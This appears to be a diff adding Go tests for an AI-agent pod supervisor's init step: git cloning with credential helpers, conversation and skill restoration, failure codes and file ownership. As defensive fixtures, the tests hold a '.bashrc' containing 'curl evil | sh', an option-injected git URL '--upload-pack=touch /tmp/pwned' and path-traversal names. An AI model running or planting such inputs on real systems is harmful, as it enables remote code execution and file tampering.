@@ -1,0 +1,341 @@
+package main
+
+import (
+	"archive/tar"
+	"bytes"
+	"compress/gzip"
+	"encoding/base64"
+	"net/http"
+	"net/http/cgi"
+	"net/http/httptest"
+	"os"
+	"os/exec"
+	"path/filepath"
+	"strings"
+	"sync"
+	"syscall"
+	"testing"
+
+	"github.com/agentplane/agentplane/libs/runspec"
+)
+
+// git runs git in dir with a clean, test-only configuration.
+func git(t *testing.T, dir string, env []string, args ...string) string {
+	t.Helper()
+	cmd := exec.Command("git", args...)
+	cmd.Dir = dir
+	cmd.Env = append([]string{"HOME=" + dir, "GIT_CONFIG_NOSYSTEM=1", "PATH=/usr/bin:/bin",
+		"GIT_AUTHOR_NAME=t", "GIT_AUTHOR_EMAIL=t@x", "GIT_COMMITTER_NAME=t", "GIT_COMMITTER_EMAIL=t@x"}, env...)
+	out, err := cmd.CombinedOutput()
+	if err != nil {
+		t.Fatalf("git %v: %v\n%s", args, err, out)
+	}
+	return strings.TrimSpace(string(out))
+}
+
+// originRepo makes a bare repository with two commits, the first tagged
+// v1, and returns its path.
+func originRepo(t *testing.T) string {
+	t.Helper()
+	work, root := t.TempDir(), t.TempDir()
+	git(t, work, nil, "init", "-q", "-b", "main")
+	mustWrite(t, filepath.Join(work, "README.md"), []byte("v1\n"))
+	git(t, work, nil, "add", ".")
+	git(t, work, nil, "commit", "-q", "-m", "one")
+	git(t, work, nil, "tag", "v1")
+	mustWrite(t, filepath.Join(work, "README.md"), []byte("v2\n"))
+	git(t, work, nil, "commit", "-q", "-am", "two")
+	bare := filepath.Join(root, "app.git")
+	git(t, root, nil, "clone", "-q", "--bare", work, bare)
+	git(t, bare, nil, "config", "http.receivepack", "true")
+	return bare
+}
+
+// gitHTTPServer serves the bare repos under root through git's own
+// http-backend and demands the x-access-token login with token.
+func gitHTTPServer(t *testing.T, root, token string) *httptest.Server {
+	t.Helper()
+	backend := filepath.Join(git(t, root, nil, "--exec-path"), "git-http-backend")
+	h := &cgi.Handler{Path: backend, Env: []string{"GIT_PROJECT_ROOT=" + root, "GIT_HTTP_EXPORT_ALL=1", "REMOTE_USER=agent"}}
+	want := "Basic " + base64.StdEncoding.EncodeToString([]byte("x-access-token:"+token))
+	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		if r.Header.Get("Authorization") != want {
+			w.Header().Set("WWW-Authenticate", `Basic realm="git"`)
+			w.WriteHeader(http.StatusUnauthorized)
+			return
+		}
+		h.ServeHTTP(w, r)
+	}))
+	t.Cleanup(srv.Close)
+	return srv
+}
+
+// TestInitPreparesThePod: bundle copy, an authenticated clone at a tag
+// with the credential helper kept (the agent can push), a path escape
+// skipped, the vendor's MCP config written, and the event sequence
+// carried on into the run.
+func TestInitPreparesThePod(t *testing.T) {
+	t.Parallel()
+	const token = "tok-3b9e1c"
+	bare := originRepo(t)
+	srv := gitHTTPServer(t, filepath.Dir(bare), token)
+	spec := jobSpec(vendorModels["gemini"], "go")
+	spec.MCPServers = []runspec.MCPServer{{Name: "lore", Transport: "http", URL: "http://lore/mcp", HeaderEnv: "LORE_MCP_AUTH"}}
+	p := newPod(t, spec).withNATS()
+	p.env["AGENT_REPOS"] = `[{"name":"app","url":"` + srv.URL + `/app.git","ref":"v1","path":"src/app","token_secret":"gh-token"},` +
+		`{"name":"evil","url":"` + srv.URL + `/app.git","path":"../escaped"}]`
+	p.env["gh-token"] = token
+	p.env["LORE_MCP_AUTH"] = "Bearer mcp-secret"
+
+	r := p.run("init")
+	if r.code != 0 {
+		t.Fatalf("init exit %d", r.code)
+	}
+	self, _ := os.ReadFile(supervisorBin)
+	bundle, err := os.ReadFile(filepath.Join(p.agentDir, "bin", "supervisor"))
+	if err != nil || !bytes.Equal(self, bundle) {
+		t.Fatalf("bundle not copied: %v", err)
+	}
+	if fi, _ := os.Stat(filepath.Join(p.agentDir, "bin", "supervisor")); fi.Mode()&0o111 == 0 {
+		t.Fatal("bundle is not executable")
+	}
+	clone := filepath.Join(p.workspace, "src", "app")
+	if got, _ := os.ReadFile(filepath.Join(clone, "README.md")); string(got) != "v1\n" {
+		t.Fatalf("clone not at v1: %q", got)
+	}
+	if _, err := os.Stat(filepath.Join(filepath.Dir(p.workspace), "escaped")); err == nil {
+		t.Fatal("a repo path outside the workspace was cloned")
+	}
+	cfg, _ := os.ReadFile(filepath.Join(clone, ".git", "config"))
+	if !bytes.Contains(cfg, []byte("git-credential")) || bytes.Contains(cfg, []byte(token)) {
+		t.Fatalf("clone config must keep the helper and never the token:\n%s", cfg)
+	}
+	settings, err := os.ReadFile(filepath.Join(p.agentDir, ".gemini", "settings.json"))
+	if err != nil || !bytes.Contains(settings, []byte("${LORE_MCP_AUTH}")) || bytes.Contains(settings, []byte("mcp-secret")) {
+		t.Fatalf("gemini MCP config: %v\n%s", err, settings)
+	}
+	for _, out := range [][]byte{r.stdout, r.stderr} {
+		if bytes.Contains(out, []byte(token)) {
+			t.Fatal("token in init output")
+		}
+	}
+
+	// The agent pushes with the kept helper: the token comes from the
+	// run's environment at push time, under its shell-safe alias.
+	git(t, clone, []string{"AGENTPLANE_GIT_TOKEN_GH_TOKEN=" + token}, "push", "-q", "origin", "HEAD:refs/heads/agent-branch")
+	if got := git(t, bare, nil, "rev-parse", "agent-branch"); got == "" {
+		t.Fatal("push did not land")
+	}
+
+	initEvents := p.natsEvents()
+	checkStream(t, initEvents, 1)
+	if lifecycle(initEvents[0]) != "init/started" || lifecycle(initEvents[len(initEvents)-1]) != "init/succeeded" {
+		t.Fatalf("init stream %s .. %s", lifecycle(initEvents[0]), lifecycle(initEvents[len(initEvents)-1]))
+	}
+	// The run continues the sequence, so no dedupe id is reused.
+	if r := p.run("run"); r.code != 0 {
+		t.Fatalf("run exit %d", r.code)
+	}
+	all := p.natsEvents()
+	checkStream(t, all, 1)
+	if lifecycle(all[len(initEvents)]) != "agent/started" {
+		t.Fatalf("run did not follow init: %s", lifecycle(all[len(initEvents)]))
+	}
+}
+
+// conversationArchive builds the tar.gz a conversation source serves.
+func conversationArchive(t *testing.T, files map[string]string) []byte {
+	t.Helper()
+	var buf bytes.Buffer
+	zw := gzip.NewWriter(&buf)
+	tw := tar.NewWriter(zw)
+	for name, body := range files {
+		if err := tw.WriteHeader(&tar.Header{Name: name, Mode: 0o600, Size: int64(len(body)), Typeflag: tar.TypeReg}); err != nil {
+			t.Fatal(err)
+		}
+		if _, err := tw.Write([]byte(body)); err != nil {
+			t.Fatal(err)
+		}
+	}
+	if err := tw.Close(); err != nil {
+		t.Fatal(err)
+	}
+	if err := zw.Close(); err != nil {
+		t.Fatal(err)
+	}
+	return buf.Bytes()
+}
+
+func TestInitRestoresConversation(t *testing.T) {
+	good := conversationArchive(t, map[string]string{".claude/projects/-workspace/sess-1.jsonl": `{"type":"user"}` + "\n"})
+	hostile := conversationArchive(t, map[string]string{"../../outside.txt": "x"})
+	offPrefix := conversationArchive(t, map[string]string{".bashrc": "curl evil | sh"})
+	tests := []struct {
+		name    string
+		archive []byte
+		code    int
+		file    string
+	}{
+		{name: "the archive is unpacked into the vendor's state dir", archive: good, code: 0, file: ".claude/projects/-workspace/sess-1.jsonl"},
+		{name: "a member escaping HOME fails the pod", archive: hostile, code: 15},
+		{name: "a member outside the state dir fails the pod", archive: offPrefix, code: 15},
+		{name: "a missing conversation fails the pod", archive: nil, code: 15},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			t.Parallel()
+			srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+				if r.Header.Get("X-Conv") != "conv-token" || r.URL.Path != "/conversations/sess-1" || tt.archive == nil {
+					http.NotFound(w, r)
+					return
+				}
+				_, _ = w.Write(tt.archive)
+			}))
+			defer srv.Close()
+			p := newPod(t, jobSpec(vendorModels["claude"], "go")).withNATS()
+			p.env["AGENT_CONVERSATION_SOURCE"] = srv.URL + "/conversations"
+			p.env["AGENT_CONVERSATION_ID"] = "sess-1"
+			p.env["AGENT_CONVERSATION_AUTH"] = "conv-auth"
+			p.env["conv-auth"] = "X-Conv: conv-token"
+			r := p.run("init")
+			if r.code != tt.code {
+				t.Fatalf("exit %d, want %d", r.code, tt.code)
+			}
+			if bytes.Contains(r.stderr, []byte("conv-token")) || bytes.Contains(r.stdout, []byte("conv-token")) {
+				t.Fatal("conversation credential in init output")
+			}
+			if tt.file != "" {
+				if _, err := os.Stat(filepath.Join(p.agentDir, tt.file)); err != nil {
+					t.Fatalf("conversation not restored: %v", err)
+				}
+				return
+			}
+			evs := p.natsEvents()
+			if lc := evs[len(evs)-1].GetLifecycle(); lc.GetStatus() != "failed" || lc.GetReason() != "conversation" || lc.GetExitCode() != 15 {
+				t.Fatalf("terminal event %v", lc)
+			}
+		})
+	}
+}
+
+func TestInitFailureCodes(t *testing.T) {
+	bare := originRepo(t)
+	tests := []struct {
+		name   string
+		spec   *runspec.Spec
+		repos  string
+		code   int
+		reason string
+	}{
+		{name: "a missing run spec exits 11", code: 11, reason: "spec"},
+		{name: "unparsable AGENT_REPOS exits 13", spec: jobSpec("claude-x", "go"), repos: "{", code: 13, reason: "repos"},
+		{name: "an option-shaped ref is refused and exits 14", spec: jobSpec("claude-x", "go"),
+			repos: `[{"name":"app","url":"file://` + bare + `","ref":"--orphan=x"}]`, code: 14, reason: "clone"},
+		{name: "an option-shaped url is refused and exits 14", spec: jobSpec("claude-x", "go"),
+			repos: `[{"name":"app","url":"--upload-pack=touch /tmp/pwned"}]`, code: 14, reason: "clone"},
+		{name: "an unknown ref exits 14", spec: jobSpec("claude-x", "go"),
+			repos: `[{"name":"app","url":"file://` + bare + `","ref":"no-such-ref"}]`, code: 14, reason: "clone"},
+		{name: "codex refuses an sse MCP server and exits 16",
+			spec: &runspec.Spec{Model: "gpt-5-codex", Prompt: "go", MCPServers: []runspec.MCPServer{{Name: "s", Transport: "sse", URL: "http://x"}}},
+			code: 16, reason: "config"},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			t.Parallel()
+			p := newPod(t, tt.spec).withNATS()
+			if tt.repos != "" {
+				p.env["AGENT_REPOS"] = tt.repos
+			}
+			r := p.run("init")
+			if r.code != tt.code {
+				t.Fatalf("exit %d, want %d", r.code, tt.code)
+			}
+			if !bytes.Contains(r.stderr, []byte("supervisor init: "+tt.reason)) {
+				t.Fatalf("stderr lacks reason %q", tt.reason)
+			}
+			evs := p.natsEvents()
+			lc := evs[len(evs)-1].GetLifecycle()
+			if lc.GetPhase() != "init" || lc.GetStatus() != "failed" || lc.GetReason() != tt.reason || lc.GetExitCode() != int32(tt.code) {
+				t.Fatalf("terminal event %v", lc)
+			}
+		})
+	}
+}
+
+// TestInitStagesSkills: settings.json and the named skills come from
+// skills_source; a refused name or a missing skill does not fail the pod
+// (best-effort, as in the reference); claude then runs with the settings.
+func TestInitStagesSkills(t *testing.T) {
+	t.Parallel()
+	skill := conversationArchive(t, map[string]string{"review/SKILL.md": "# review\n"})
+	var mu sync.Mutex
+	var paths []string
+	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		mu.Lock()
+		paths = append(paths, r.URL.Path)
+		mu.Unlock()
+		switch r.URL.Path {
+		case "/skills/settings.json":
+			_, _ = w.Write([]byte(`{"permissions":{}}`))
+		case "/skills/review.tar.gz":
+			_, _ = w.Write(skill)
+		default:
+			http.NotFound(w, r)
+		}
+	}))
+	defer srv.Close()
+	p := newPod(t, jobSpec(vendorModels["claude"], "go")).withNATS()
+	p.env["AGENT_SKILLS_SOURCE"] = srv.URL + "/skills"
+	p.env["AGENT_SKILLS"] = `["review","absent","../etc",".hidden"]`
+	if r := p.run("init"); r.code != 0 {
+		t.Fatalf("init exit %d", r.code)
+	}
+	if b, err := os.ReadFile(filepath.Join(p.agentDir, ".claude", "skills", "review", "SKILL.md")); err != nil || string(b) != "# review\n" {
+		t.Fatalf("skill not staged: %v %q", err, b)
+	}
+	if _, err := os.Stat(filepath.Join(p.agentDir, ".claude", "settings.json")); err != nil {
+		t.Fatalf("settings not staged: %v", err)
+	}
+	mu.Lock()
+	for _, path := range paths {
+		if strings.Contains(path, "etc") || strings.Contains(path, "hidden") {
+			t.Errorf("refused skill name was fetched: %s", path)
+		}
+	}
+	mu.Unlock()
+	if r := p.run("run"); r.code != 0 {
+		t.Fatalf("run with staged settings exit %d", r.code)
+	}
+}
+
+// TestInitHandsVolumesToTheAgentUser: run as root, init chowns the agent
+// volume, HOME and the workspace (clones included) to the agent's uid, so
+// the non-root agent container can write them.
+func TestInitHandsVolumesToTheAgentUser(t *testing.T) {
+	t.Parallel()
+	if os.Geteuid() != 0 {
+		t.Skip("chown needs root; the init container runs as root")
+	}
+	bare := originRepo(t)
+	p := newPod(t, jobSpec(vendorModels["claude"], "go"))
+	p.env["SUPERVISOR_CHOWN"] = "1000:1001"
+	p.env["AGENT_REPOS"] = `[{"name":"app","url":"file://` + bare + `"}]`
+	if r := p.run("init"); r.code != 0 {
+		t.Fatalf("init exit %d", r.code)
+	}
+	for _, path := range []string{
+		filepath.Join(p.agentDir, "bin", "supervisor"),
+		filepath.Join(p.workspace, "app", "README.md"),
+		filepath.Join(p.workspace, "app", ".git", "config"),
+		p.workspace,
+	} {
+		fi, err := os.Lstat(path)
+		if err != nil {
+			t.Fatal(err)
+		}
+		st := fi.Sys().(*syscall.Stat_t)
+		if st.Uid != 1000 || st.Gid != 1001 {
+			t.Errorf("%s is owned by %d:%d, want 1000:1001", path, st.Uid, st.Gid)
+		}
+	}
+}
